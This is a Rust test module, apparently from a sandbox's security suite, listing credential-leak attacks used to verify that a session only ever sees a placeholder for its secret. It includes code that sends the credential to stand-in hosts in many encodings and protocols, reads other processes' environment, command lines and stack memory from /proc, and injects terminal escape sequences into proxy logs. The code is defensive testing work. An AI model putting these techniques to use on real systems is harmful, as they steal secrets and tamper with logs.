//! Credentials: a session has a placeholder, which is worth nothing elsewhere, and never the value.
//!
//! On the bare host the variable holds the value itself, as programs are usually run.

use crate::attack::{Attack, Permitted, layer};
use crate::scene::{Lost, Outcome, Scene, YARD};
use crate::stage::{Shot, Stage};
use crate::tongue::{Greeting, ask_two, dial, exchange, verdict};
use crate::town::{VALUE, VARIABLE};
use cowork_api::egress::HTTP_PROXY_PORT;
use flate2::Compression;
use flate2::write::GzEncoder;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::path::Path;
use std::time::{Duration, Instant};

pub(super) const CLASS: &str = "credentials";
pub(super) const KEPT: &[(&str, &str)] = &[
    ("refused", layer::EGRESS),
    ("ECONNRESET", layer::EGRESS),
    ("EPIPE", layer::EGRESS),
    ("HTTP/1.1 200", layer::EGRESS),
    ("HTTP/1.1 101", layer::PLACEHOLDER),
    ("200", layer::EGRESS),
    ("saw", layer::PLACEHOLDER),
    ("no such name", layer::EGRESS),
];

/// The value arrives where it does not belong.
pub(super) const fn leaves(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let arrived =
        |stage: &Stage, shot: &Shot| stage.ears(shot, &["shared", "other", "private"], VALUE);
    Attack::new(CLASS, name, act, KEPT).judged(arrived).in_town()
}

/// The value is seen inside, in what the attack writes down that it saw.
pub(super) const fn seen(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let told = |stage: &Stage, shot: &Shot| {
        let path = stage.path(&format!("{YARD}/saw-{}", shot.token));
        let saw = std::fs::read_to_string(&path).unwrap_or_default();
        cowork_sys::ignore(std::fs::remove_file(path));
        saw.contains(VALUE).then(|| "the value was seen".to_owned())
    };
    Attack::new(CLASS, name, act, KEPT).judged(told).in_town()
}

/// The value comes back from its own host, which was asked for this page.
const fn echoed(name: &'static str, page: &'static str) -> Attack {
    seen(name, |scene| {
        let key = key();
        let text = format!(
            "GET {} HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer {key}\r\n\r\n",
            scene.word.replace("KEY", &key)
        );
        saw(scene, &over_tls("api.example", &text)?)
    })
    .word(page)
}

/// Another credential arrives at a host to which one is pinned. It is the run's token.
pub(super) const fn own(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let arrived = |stage: &Stage, shot: &Shot| stage.ears(shot, &["shared"], &shot.token);
    Attack::new(CLASS, name, act, KEPT).judged(arrived).in_town()
}

/// A header with it.
const fn own_header(name: &'static str, header: &'static str) -> Attack {
    own(name, |scene| {
        let header = scene.word.replace("TOKEN", scene.token()?);
        let text = format!("GET / HTTP/1.1\r\nHost: pin.example\r\n{header}\r\n\r\n");
        verdict(&over_tls("pin.example", &text)?)
    })
    .word(header)
}

pub(crate) const TABLE: &[Attack] = &[
    Attack::new(CLASS, "secret.is-used", |scene| header(scene, "api.example"), KEPT)
        .judged(|stage, shot| stage.ears(shot, &["shared"], VALUE))
        .permitted(Permitted::Required)
        .in_town(),
    Attack::new(CLASS, "secret.is-put-in", |scene| header(scene, "pin.example"), KEPT)
        .judged(|stage, shot| stage.ears(shot, &["shared"], VALUE))
        .permitted(Permitted::Required)
        .in_town(),
    leaves("secret.to-another-host", |scene| header(scene, "looked.example")),
    leaves("secret.in-a-tunnel", |scene| header(scene, "open.example")),
    leaves("secret.without-tls", |_| {
        let text = format!("GET / HTTP/1.1\r\nHost: api.example\r\nX-Key: {}\r\n\r\n", key());
        verdict(&exchange(&mut dial("api.example", 80)?, text.as_bytes())?)
    }),
    leaves("secret.host-of-its-own-inside", |_| {
        let text = format!("GET / HTTP/1.1\r\nHost: api.example\r\nX-Key: {}\r\n\r\n", key());
        verdict(&over_tls("looked.example", &text)?)
    }),
    leaves("secret.in-path", |_| asks(&format!("GET /{}", key()), "")),
    leaves("secret.in-query", |_| asks(&format!("GET /?key={}", key()), "")),
    leaves("secret.in-body", |_| {
        asks("POST /", &format!("Content-Length: {}\r\n\r\n{}", key().len(), key()))
    }),
    leaves("secret.across-pieces", |_| {
        let key = key();
        let (one, two) = key.split_at_checked(9).unwrap_or_default();
        let body = format!("{:x}\r\n{one}\r\n{:x}\r\n{two}\r\n0\r\n\r\n", one.len(), two.len());
        let text = format!("Transfer-Encoding: chunked\r\nX-Key: {key}\r\n\r\n{body}");
        asks("POST /", &text)
    }),
    leaves("secret.for-the-proxy", |_| {
        asks("GET /", &format!("Proxy-Authorization: x {}\r\n", key()))
    }),
    leaves("secret.compressed", |_| compressed("looked.example")),
    Attack::new(CLASS, "secret.is-used-compressed", |_| compressed("api.example"), KEPT)
        .judged(|stage, shot| stage.ears(shot, &["shared"], VALUE))
        .permitted(Permitted::Required)
        .in_town(),
    leaves("secret.in-base64", |_| {
        let pair = base64(format!("me:{}", key()).as_bytes());
        asks("GET /", &format!("Authorization: Basic {pair}\r\n"))
    }),
    leaves("secret.in-base64-in-body", |_| {
        let text = base64(key().as_bytes());
        asks("POST /", &format!("X-Coding: base64\r\nContent-Length: {}\r\n\r\n{text}", text.len()))
    }),
    leaves("secret.in-a-message", |_| {
        let mut stream = Greeting::to("looked.example").over(dial("looked.example", 443)?)?;
        let head = "GET / HTTP/1.1\r\nHost: looked.example\r\nConnection: Upgrade\r\n\
                    Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                    Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
        let came = verdict(&exchange(&mut stream, head.as_bytes())?)?;
        // A text, masked with nothing, and the end of a head for whoever reads on.
        let text = format!("{}\r\n\r\n", key());
        let frame = [&[0x81, 0x80 | text.len() as u8, 0, 0, 0, 0], text.as_bytes()].concat();
        cowork_sys::ignore(exchange(&mut stream, &frame));
        Ok(came)
    }),
    leaves("secret.in-http-2", |_| {
        let greeting = Greeting { protocol: b"h2", ..Greeting::to("looked.example") };
        let mut stream = greeting.over(dial("looked.example", 443)?)?;
        let key = key();
        ask_two(
            &mut stream,
            &[&[
                (":method", "GET"),
                (":scheme", "https"),
                (":authority", "looked.example"),
                (":path", "/"),
                ("x-key", &key),
            ]],
        )
    }),
    echoed("secret.echoed", "/echo"),
    echoed("secret.echoed-from-query", "/echo?key=KEY"),
    echoed("secret.echoed-in-location", "/echo-moved"),
    echoed("secret.echoed-in-header", "/echo-header"),
    echoed("secret.echoed-in-error", "/echo-error"),
    echoed("secret.echoed-compressed", "/echo-gzip"),
    echoed("secret.echoed-in-pieces", "/echo-pieces"),
    seen("secret.echoed-body", |scene| {
        let body = format!("{{\"key\": \"{}\"}}", key());
        let text = format!(
            "POST /echo-body HTTP/1.1\r\nHost: api.example\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        saw(scene, &over_tls("api.example", &text)?)
    }),
    seen("secret.echoed-pinned", |scene| {
        let header = format!("Authorization: Bearer {}\r\n", key());
        let header = if scene.inside() { "" } else { &header };
        saw(
            scene,
            &over_tls(
                "pin.example",
                &format!("GET /echo HTTP/1.1\r\nHost: pin.example\r\n{header}\r\n"),
            )?,
        )
    }),
    seen("secret.in-variables", |scene| saw(scene, &std::fs::read("/proc/self/environ")?)),
    seen("secret.of-any-process", |scene| {
        let mut all = Vec::new();
        for entry in std::fs::read_dir("/proc")?.flatten() {
            for name in ["environ", "cmdline"] {
                all.extend(std::fs::read(entry.path().join(name)).unwrap_or_default());
            }
        }
        saw(scene, &all)
    }),
    seen("secret.in-memory-of-any-process", memories),
    Attack::new(CLASS, "secret.in-an-archive", archived, KEPT).judged(is_archived).in_town(),
    own_header("pinned.bearer", "Authorization: Bearer TOKEN"),
    own_header("pinned.basic", "Authorization: Basic TOKEN"),
    own_header("pinned.api-key", "X-API-Key: TOKEN"),
    own_header("pinned.two", "Authorization: x\r\nauthorization: Bearer TOKEN"),
    own_header("pinned.spaced", "Authorization : Bearer TOKEN"),
    own_header("pinned.folded", "X: y\r\n Authorization: Bearer TOKEN"),
    own_header("pinned.by-proxy", "Proxy-Authorization: Bearer TOKEN"),
    own_header("pinned.by-connection", "Connection: x-key\r\nX-Key: TOKEN"),
    own_header("pinned.cookie", "Cookie: session=TOKEN"),
    own("pinned.query", |scene| {
        let path = format!("/?access_token={}", scene.token()?);
        verdict(&over_tls(
            "pin.example",
            &format!("GET {path} HTTP/1.1\r\nHost: pin.example\r\n\r\n"),
        )?)
    }),
    own("pinned.without-tls", |scene| {
        let token = scene.token()?;
        let text = format!("GET / HTTP/1.1\r\nHost: pin.example\r\nAuthorization: {token}\r\n\r\n");
        verdict(&exchange(&mut dial("pin.example", 80)?, text.as_bytes())?)
    }),
    own("pinned.http-2", |scene| {
        let greeting = Greeting { protocol: b"h2", ..Greeting::to("pin.example") };
        let mut stream = greeting.over(dial("pin.example", 443)?)?;
        ask_two(
            &mut stream,
            &[&[
                (":method", "GET"),
                (":scheme", "https"),
                (":authority", "pin.example"),
                (":path", "/"),
                ("authorization", scene.token()?),
            ]],
        )
    }),
    Attack::new(CLASS, "shown.commands-for-the-terminal", tell, KEPT).judged(is_shown).in_town(),
];

/// A request whose body is compressed, with the credential in it.
fn compressed(host: &str) -> Outcome {
    let mut coder = GzEncoder::new(Vec::new(), Compression::fast());
    coder.write_all(format!("{{\"key\": \"{}\"}}", key()).as_bytes())?;
    let body = coder.finish()?;
    let head = format!(
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    let mut stream = Greeting::to(host).over(dial(host, 443)?)?;
    verdict(&exchange(&mut stream, &[head.as_bytes(), &body].concat())?)
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let letter = |bits: u32| LETTERS.chars().nth((bits & 63) as usize).unwrap_or('=');
    let coded = bytes.chunks(3).map(|three| {
        let bits = (0..3).fold(0, |bits, at| bits << 8 | u32::from(*three.get(at).unwrap_or(&0)));
        let letters = [18, 12, 6, 0].map(|shift| letter(bits >> shift));
        let known = letters.iter().take(three.len() + 1);
        known.chain(std::iter::repeat_n(&'=', 3 - three.len())).collect::<String>()
    });
    coded.collect()
}

/// The credential in every place that a record could be made of.
fn archived(scene: &Scene) -> Outcome {
    let (key, port) = (key(), scene.get("proxy").unwrap_or_default());
    let port = if scene.inside() { HTTP_PROXY_PORT } else { port.parse()? };
    let text = format!(
        "GET http://api.example/{key}?key={key} HTTP/1.1\r\nHost: api.example\r\nX-Key: {key}\r\n\r\n"
    );
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    cowork_sys::ignore(exchange(&mut stream, text.as_bytes()));
    let text = format!(
        "GET /echo?key={key} HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer {key}\r\n\r\n"
    );
    verdict(&over_tls("api.example", &text)?)
}

/// Whether the log of a proxy has it, or the record, the archive, or a file of the daemon's.
fn is_archived(stage: &Stage, shot: &Shot) -> Option<String> {
    let town = stage.town().ok()?;
    if stage.ears(shot, &["shown"], VALUE).is_some() {
        return Some("the log of a proxy has it".into());
    }
    std::thread::sleep(Duration::from_millis(200));
    let mut told = String::new();
    for id in town.ids() {
        for words in [&["net", "har", &id][..], &["audit", &id, "--json"], &["net", &id, "--json"]]
        {
            told.push_str(&town.tell(words, "").unwrap_or_default());
        }
    }
    let kept = town.kept().contains(VALUE);
    (kept || told.contains(VALUE)).then(|| "it was written down".to_owned())
}

/// Requests with commands for the user's terminal in them.
const COMMANDING: [&str; 5] = [
    "GET http://denied.example/\x1b]0;TOKEN HTTP/1.1\r\nHost: denied.example",
    "GET http://denied\x1b]0;TOKEN/ HTTP/1.1\r\nHost: denied.example",
    "G\x1b]0;TOKEN http://denied.example/ HTTP/1.1\r\nHost: denied.example",
    "CONNECT denied\x1b]0;TOKEN:443 HTTP/1.1\r\nHost: denied.example",
    "GET http://denied.example/\u{9b}0;TOKEN HTTP/1.1\r\nHost: denied.example",
];

/// The credential, as programs here know it.
pub(super) fn key() -> String {
    std::env::var(VARIABLE).unwrap_or_default()
}

/// Writes down what came back.
pub(super) fn saw(scene: &Scene, bytes: &[u8]) -> Outcome {
    let body = bytes.windows(4).position(|window| window == b"\r\n\r\n").map_or(0, |at| at + 4);
    let (head, body) = bytes.split_at_checked(body).unwrap_or_default();
    let mut plain = String::new();
    let mut decoder = flate2::read::GzDecoder::new(body);
    if decoder.read_to_string(&mut plain).is_err() || plain.is_empty() {
        plain = String::from_utf8_lossy(body).into_owned();
    }
    let text = format!("{}{plain}", String::from_utf8_lossy(head));
    // Pieces are put together, and their sizes left out.
    let pieces: String = text.split("\r\n").filter(|line| line.len() > 2).collect();
    std::fs::write(format!("{YARD}/saw-{}", scene.token()?), format!("{text} {pieces}"))?;
    Err(Lost::new("saw something else"))
}

fn over_tls(host: &str, text: &str) -> Result<Vec<u8>, Lost> {
    exchange(&mut Greeting::to(host).over(dial(host, 443)?)?, text.as_bytes())
}

fn header(scene: &Scene, host: &str) -> Outcome {
    let own = format!("Authorization: Bearer {}\r\n", key());
    // What is pinned is put in, and nothing else is taken.
    let own = if scene.inside() && host == "pin.example" { "" } else { &own };
    let text = format!("GET / HTTP/1.1\r\nHost: {host}\r\n{own}\r\n");
    verdict(&over_tls(host, &text)?)
}

/// A request to a host that may be spoken to, and is not the credential's.
fn asks(line: &str, rest: &str) -> Outcome {
    let end = if rest.contains("\r\n\r\n") { "" } else { "\r\n" };
    let text = format!("{line} HTTP/1.1\r\nHost: looked.example\r\n{rest}{end}");
    verdict(&over_tls("looked.example", &text)?)
}

/// Looks into the memory of every process, this one left out.
fn memories(scene: &Scene) -> Outcome {
    if !scene.inside() {
        // A program that was started like this one.
        let mut other = std::process::Command::new("sleep").arg("5").spawn()?;
        let path = format!("/proc/{}/environ", other.id());
        let begin = Instant::now();
        // It is not there at once: whoever starts a program goes on in the middle of its exec.
        let all = loop {
            let all = std::fs::read(&path);
            let read = all.as_ref().is_ok_and(|all| !all.is_empty());
            if read || begin.elapsed() > Duration::from_secs(2) {
                break all;
            }
        };
        other.kill()?;
        other.wait()?;
        return saw(scene, &all?);
    }
    let own = std::process::id().to_string();
    let mut all = Vec::new();
    for entry in std::fs::read_dir("/proc")?.flatten() {
        if entry.file_name().to_string_lossy() != own.as_str() {
            all.extend(stack(&entry.path()).unwrap_or_default());
        }
    }
    saw(scene, &all)
}

/// What lies on the stack of a process.
fn stack(process: &Path) -> Option<Vec<u8>> {
    use std::os::unix::fs::FileExt as _;
    let maps = std::fs::read_to_string(process.join("maps")).ok()?;
    let line = maps.lines().find(|line| line.ends_with("[stack]"))?;
    let (from, rest) = line.split_once('-')?;
    let from = u64::from_str_radix(from, 16).ok()?;
    let to = u64::from_str_radix(rest.split(' ').next()?, 16).ok()?;
    let mut bytes = vec![0; usize::try_from(to - from).ok()?];
    let file = std::fs::File::open(process.join("mem")).ok()?;
    let length = file.read_at(&mut bytes, from).ok()?;
    bytes.truncate(length);
    Some(bytes)
}

fn tell(scene: &Scene) -> Outcome {
    let port = if scene.inside() { HTTP_PROXY_PORT } else { scene.get("proxy")?.parse()? };
    let mut last = Err(Lost::new("refused: nothing"));
    for head in COMMANDING {
        let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
        stream.set_read_timeout(Some(Duration::from_millis(300)))?;
        let head = head.replace("TOKEN", scene.token()?);
        let answer = exchange(&mut stream, format!("{head}\r\n\r\n").as_bytes());
        last = answer.and_then(|answer| verdict(&answer));
    }
    last
}

/// Whether the log of a proxy has it as it was said, or `cowork` shows it so.
fn is_shown(stage: &Stage, shot: &Shot) -> Option<String> {
    let town = stage.town().ok()?;
    let said = format!("]0;{}", shot.token);
    if stage.ears(shot, &["shown"], &shot.token).is_some() {
        let heard = town.ears.count("shown", &format!("0;{}", shot.token));
        return (heard >= COMMANDING.len()).then(|| "the log of a proxy has all of them".into());
    }
    let mut shown = String::new();
    for id in town.ids() {
        for words in [["net", &id], ["audit", &id]] {
            shown.push_str(&town.tell(&words, "").unwrap_or_default());
        }
    }
    let raw = shown.contains(&format!("\u{1b}{said}")) || shown.contains('\u{9b}');
    raw.then(|| "it is shown".to_owned())
}
